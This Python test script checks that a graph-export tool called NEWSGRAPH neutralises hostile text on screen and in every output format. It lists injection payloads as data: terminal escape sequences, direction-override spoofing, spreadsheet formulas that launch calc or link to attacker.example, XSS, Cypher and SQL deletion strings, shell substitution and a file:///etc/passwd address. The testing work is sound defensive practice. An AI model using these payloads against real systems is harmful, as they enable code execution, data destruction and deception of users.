#!/usr/bin/env python3
"""Texts that act: one hostile set, as every name, sentence, title and address, on every screen and in every format.

A screen shows no control sequence and no mark that turns the writing round, whatever an article, a file's name or an
option says. A written file, read as what opens it reads it, holds these texts as texts.
usage: texts_that_act.py NEWSGRAPH"""
import csv
import html.parser
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import xml.etree.ElementTree as xml

from harness import Case, finish

PROGRAM = os.path.abspath(sys.argv[1])

# What each would do where it is not taken for a text.
ATTACKS = {
    "changes the colour": "\x1b[31mAlpha\x1b[0m",
    "names the window": "\x1b]0;Bravo\x07",
    "writes to the clipboard": "\x1b]52;c;Q2hhcmxpZQ==\x07Charlie",
    "hides a link": "\x1b]8;;https://attacker.example/\x1b\\Delta\x1b]8;;\x1b\\",
    "asks the terminal": "\x1bP$q\"p\x1b\\Echo\x1b[6n",
    "goes up and erases": "\x1b[2A\x1b[2KFoxtrot",
    "is a sequence of one byte": "\u009b31mGolf\u009d0;x\u009c",
    "overwrites its line": "Hotel\rIndia",
    "takes back what it said": "Juliett\b\b\b\bKilo\x7f",
    "rings": "Lima\a",
    "overrides the direction": "Mike \u202etxt.exe\u202c",
    "isolates": "\u2066November\u2069 \u2067Oscar\u2069",
    "marks the direction": "\u200fPapa\u200e\u061c",
    "ends its line": "Quebec\nRomeo\r\nSierra\u2028Tango\u2029Uniform",
    "starts a program": "=cmd|' /C calc'!A0",
    "fetches an address": "+HYPERLINK(\"https://attacker.example/\"&A1;\"Victor\")",
    "computes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "is a negative formula": "-2+3+cmd|' /C calc'!A0",
    "is a formula behind a tab": "\t=1+1",
    "is a formula behind a line end": "\r=1+1",
    "ends the script": "</script><script>alert(1)</script>",
    "loads a picture": "<img src=x onerror=alert(2)>",
    "ends an attribute": "\"'><svg/onload=alert(3)>",
    "ends a section": "]]><script>alert(4)</script><![CDATA[",
    "ends a comment": "--><script>alert(5)</script><!--",
    "is an entity": "&lt;script&gt;alert(6)&#60;/script&#62;&xxe;",
    "is a template": "${alert(7)} `alert(8)` {{7*7}} <%= 7 %>",
    "ends a Cypher text": "\\' \"}) MATCH (n) DETACH DELETE n; //",
    "ends a Cypher name": "Whiskey`) DETACH DELETE n //",
    "ends a label": "\"]; evil [label=<<b>X-ray</b>>]; \\",
    "ends a text of RDF": "\" . <urn:evil> <urn:evil> <urn:evil> . \\u0022 \\",
    "ends a text of SQL": "'); DROP TABLE claims; --",
    "runs in a shell": "$(touch evil) `touch evil`; touch evil",
    "is Markdown": "[Yankee](javascript:alert(9)) ![](https://attacker.example/x.png)",
    "is an address": "javascript:alert(10)",
}
ADDRESSES = ["javascript:alert(1)", "data:text/html,<script>alert(2)</script>", "https://a.example/\"onmouseover=\"alert(3)",
             "https://a.example/>\n<urn:evil> <urn:evil> <urn:evil>", "file:///etc/passwd", "\x1b]0;x\x07"]
TURNS = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
ACTS = re.compile(f"[\x00-\x09\x0b-\x1f\x7f-\x9f{TURNS}]")
COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def rows(verdict="bans"):
    """A ring: everyone bans the next, with the attack in every field that a text may stand in."""
    texts = list(ATTACKS.values())
    for number, text in enumerate(texts):
        other = texts[(number + 1) % len(texts)]
        yield {"source": text, "relation": verdict, "target": other, "date": "2024-01-02", "evidence": f"{text} banned {other}. {text}",
               "title": text, "url": ADDRESSES[number % len(ADDRESSES)], "id": text}


def claims():
    for number, row in enumerate(rows()):
        end = lambda text: {"name": text, "type": "organization", "text": text, "named": True}
        yield {"id": f"c-{number:016x}", "document": {"id": f"d{number}", "title": row["title"], "date": "2024-01-02", "url": row["url"]},
               "subject": end(row["source"]), "relation": "bans", "object": end(row["target"]), "status": "asserted", "confidence": 0.9,
               "scope": row["source"], "speaker": row["source"], "rule": "verb:ban",
               "evidence": {"text": row["evidence"], "start": 0, "end": len(row["evidence"].encode())}}


def write_lines(path, objects):
    path.write_text("".join(json.dumps(each, ensure_ascii=False) + "\n" for each in objects), encoding="utf-8")


def prepare(case):
    (case.folder / "rows.json").write_text(json.dumps(list(rows())), encoding="utf-8")
    (case.folder / "other.json").write_text(json.dumps(list(rows("owns"))[::2]), encoding="utf-8")
    write_lines(case.folder / "claims.jsonl", claims())
    write_lines(case.folder / "reviewed.jsonl", [{**each, "relation": "owns"} for each in claims()])
    write_lines(case.folder / "decisions.jsonl",
                [{"decision": "reject", "claim": "c-" + text, "sentence": text, "note": text, "by": text} for text in ATTACKS.values()])
    write_lines(case.folder / "gold.jsonl",
                [{"id": f"d{number}", "text": each["evidence"]["text"], "claims": [
                    {"subject": "nobody " + each["subject"]["name"], "relation": "bans", "object": each["object"]["name"], "status": "asserted",
                     "sentence": each["evidence"]["text"]}]} for number, each in enumerate(claims())])
    entities = [{"name": text, "type": "organization", "aliases": [text + " alias"]} for text in ATTACKS.values()]
    (case.folder / "entities.json").write_text(json.dumps({"entities": entities}), encoding="utf-8")
    for text in ATTACKS.values():
        name = text.replace("/", "_")
        (case.folder / "names").mkdir(exist_ok=True)
        (case.folder / "names" / (name + ".graphml")).write_bytes(b"<graphml")


def screens():
    """What each verb says to a person; the exit codes that it may have."""
    first = next(iter(ATTACKS.values()))
    yield "explain", ["explain", "rows.json"], {0}
    yield "explain in colour", ["explain", "rows.json", "--color", "always"], {0}
    yield "explain as a table", ["explain", "rows.json", "--table"], {0}
    yield "stats", ["stats", "rows.json", "--most", "100"], {0}
    yield "stats in colour", ["stats", "rows.json", "--most", "100", "--color", "always"], {0}
    yield "diff", ["diff", "rows.json", "other.json", "--statements"], {0}
    yield "diff in colour", ["diff", "rows.json", "other.json", "--statements", "--color", "always"], {0}
    yield "review", ["review", "claims.jsonl", "--list", "--decisions", "none.jsonl"], {0}
    yield "decide", ["decide", "claims.jsonl", "reviewed.jsonl", "-o", "made.jsonl"], {0}
    yield "decisions that find nothing", ["export", "claims.jsonl", "-o", "x.json", "--decisions", "decisions.jsonl", "--log-level", "debug"], {0}
    yield "evaluate", ["evaluate", "gold.jsonl", "claims.jsonl", "--show", "all"], {0, 2, 3}
    yield "entities", ["entities", "--entities", "entities.json"], {0, 2}
    yield "files that cannot be read", ["export", "names", "-o", "x.json"], {1, 3}
    yield "an output of that name", ["export", "rows.json", "-o", "no-folder/" + first + "\u202e.json"], {2, 3}
    for what, text in ATTACKS.items():
        yield f"an input that {what}", ["stats", text.replace("/", "_")], {2, 3}
        yield f"an option that {what}", ["stats", "rows.json", "--relation=" + text], {0, 2, 3}
        yield f"a verb that {what}", [text], {2}


def check_screens(case):
    for what, words, codes in screens():
        done = case.run(*words)
        case.check(f"{what}: exit code {done.returncode}", done.returncode in codes, done)
        for stream, said in (("standard output", done.stdout), ("standard error", done.stderr)):
            text = said.decode("utf-8", "backslashreplace")
            if "--color" in words:
                text = COLOUR.sub("", text)
            found = ACTS.search(text)
            case.check(f"{what}: {stream} passes on {found and text[max(0, found.start() - 40):found.end() + 20]!r}", not found)


def formats(case):
    """The extensions that can be written, as the program lists them."""
    return [each["extensions"].split()[0] for each in json.loads(case.run("formats", "--json").stdout)["write"]]


class Elements(html.parser.HTMLParser):
    """Elements of a page that would run, load or lead elsewhere, but for the page's own scripts."""

    def __init__(self, page):
        super().__init__()
        self.foreign = []
        self.script = False
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.script = tag == "script"
        runs = [key for key, value in attrs if key.startswith("on") or (key in ("href", "src") and not (value or "").startswith(("http", "#", "data:,")))]
        icon = tag == "link" and dict(attrs).get("rel") == "icon" and dict(attrs).get("href", "").startswith("data:image/svg+xml,")
        if (tag in ("img", "iframe", "object", "embed", "base", "link") or runs) and not icon:
            self.foreign.append(self.get_starttag_text()[:120])

    def handle_data(self, data):
        if self.script and data.strip().startswith("alert("):
            self.foreign.append(data[:40])


def without_texts(script):
    """A Cypher script without its texts, quoted names and comments, as the grammar has them."""
    return re.sub(r"'(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\"|`(?:[^`]|``)*`|//[^\n]*", "''", script, flags=re.S)


def check_markup(case, name, path):
    tree = xml.parse(path)
    local = [element.tag.rsplit("}", 1)[-1].lower() for element in tree.iter()]
    case.check(f"{name}: no script", not {"script", "img", "foreignobject", "iframe"} & set(local))
    if name.endswith(".svg"):
        attributes = [(key.rsplit("}", 1)[-1].lower(), value) for element in tree.iter() for key, value in element.attrib.items()]
        case.check(f"{name}: no handlers", not [key for key, _ in attributes if key.startswith("on")])
        links = [value for key, value in attributes if key == "href" and not value.startswith(("https://", "http://", "#"))]
        case.check(f"{name}: no other links {links[:3]}", not links)


def check_page(case, name, path):
    page = path.read_text(encoding="utf-8")
    elements = Elements(page)
    case.check(f"{name}: no element of an attack's: {elements.foreign[:3]}", not elements.foreign)
    case.check(f"{name}: no control characters", not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", page))


def check_table(case, name, path):
    table = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
    case.check(f"{name}: as wide as its header", {len(row) for row in table} == {len(table[0])})
    formulas = [cell for row in table[1:] for cell in row
                if cell.lstrip("\t\r\n ")[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[-+]?[0-9.e+-]+", cell)]
    case.check(f"{name}: no formulas: {formulas[:4]}", not formulas)


def check_cypher(case, name, path):
    rest = without_texts(path.read_text(encoding="utf-8"))
    case.check(f"{name}: nothing but what we write", not re.search(r"\bDELETE\b|\bDETACH\b|evil|alert", rest))
    case.check(f"{name}: every text ends", "'" not in rest.replace("''", "") and "`" not in rest)


def check_dot(case, name, path):
    if not shutil.which("dot"):
        return
    done = subprocess.run(["dot", "-Tjson0", path], capture_output=True, check=False, timeout=300)
    case.check(f"{name}: Graphviz reads it: {done.stderr[:200]}", done.returncode == 0)
    names = [each["name"] for each in json.loads(done.stdout.decode("utf-8", "replace"), strict=False).get("objects", [])]
    case.check(f"{name}: no node of an attack's", "evil" not in names and len(names) > 0)


def check_triples(case, name, path):
    triple = re.compile(r'(<[^<>"{}|^`\\\x00-\x20]*>|_:\S+|<<.*>>) <[^<>"{}|^`\\\x00-\x20]*> '
                        r'(<[^<>"{}|^`\\\x00-\x20]*>|_:\S+|"(?:[^"\\\n\r]|\\["\\nrtbfuU])*"(?:\^\^<[^>]*>|@[a-z-]+)?) \.')
    wrong = [line for line in path.read_text(encoding="utf-8").split("\n") if line and not triple.fullmatch(line)]
    case.check(f"{name}: triples only: {wrong[:2]}", not wrong)
    case.check(f"{name}: no triple of an attack's", "\n<urn:evil>" not in path.read_text(encoding="utf-8"))


def check_json(case, name, path):
    text = path.read_text(encoding="utf-8")
    lines = text.rstrip("\n").split("\n") if name.endswith(".ftm") else [text]
    case.check(f"{name}: JSON", all(isinstance(json.loads(line), dict) for line in lines))


def check_store(case, name, path):
    database = sqlite3.connect(path)
    case.check(f"{name}: sound", database.execute("pragma integrity_check").fetchone() == ("ok",))
    count = database.execute("select count(*) from claims").fetchone()[0]
    case.check(f"{name}: {count} claims", count >= 0.8 * len(ATTACKS))
    database.close()


def check_folder(case, name, path):
    for part in sorted(path.iterdir()):
        if part.suffix == ".csv":
            table = list(csv.reader(io.StringIO(part.read_bytes().decode(), newline=""), strict=True))
            case.check(f"{name}/{part.name}: as wide as its header", len({len(row) for row in table}) == 1)


CHECKS = {".graphml": check_markup, ".gexf": check_markup, ".svg": check_markup, ".html": check_page, ".htm": check_page, ".csv": check_table,
          ".cypher": check_cypher, ".dot": check_dot, ".nt": check_triples, ".json": check_json, ".ftm": check_json, ".jgf": check_json,
          ".cyjs": check_json, ".sqlite": check_store, ".gephi": check_folder, ".neo4j": check_folder, ".png": None, ".pdf": None}


def check_writers(case):
    for extension in formats(case):
        name = "out" + extension
        done = case.run("export", "rows.json", "-q", "-o", name)
        case.check(f"{name}: written", done.returncode == 0, done)
        suffix = extension if extension in CHECKS else "." + extension.rsplit(".", 1)[-1]
        case.check(f"{name}: this test knows how to look at it", suffix in CHECKS)
        if done.returncode == 0 and CHECKS.get(suffix):
            CHECKS[suffix](case, name, case.folder / name)
    for flavour, name in (("yed", "yed.graphml"), ("gephi", "gephi.graphml"), ("star", "star.nt")):
        case.check(f"{name}: written", case.run("export", "rows.json", "-q", "-o", name, "--flavor", flavour).returncode == 0)
        CHECKS[os.path.splitext(name)[1]](case, name, case.folder / name)
    done = case.run("claims", "claims.jsonl", "-q", "-o", "claims.csv")
    case.check("claims.csv: written", done.returncode == 0, done)
    check_table(case, "claims.csv", case.folder / "claims.csv")
    done = case.run("diff", "rows.json", "other.json", "--statements", "-o", "diff.html")
    case.check("diff.html: written", done.returncode == 0, done)
    check_page(case, "diff.html", case.folder / "diff.html")
    case.check("nothing was run", not (case.folder / "evil").exists())


with Case(PROGRAM) as the_case:
    prepare(the_case)
    check_screens(the_case)
    check_writers(the_case)
finish()
